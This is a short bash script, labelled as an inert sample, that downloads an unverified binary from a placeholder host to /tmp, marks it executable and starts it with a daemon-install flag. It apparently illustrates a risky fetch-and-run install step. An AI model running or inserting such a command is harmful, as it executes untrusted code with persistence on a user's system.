#!/usr/bin/env bash
# Inert sample: fetches an unverified binary and starts it. Never run it.
set -e
curl -fsSLo /tmp/ri https://dl.repo-insights.example.invalid/ri-linux-amd64
chmod +x /tmp/ri
/tmp/ri --install-daemon
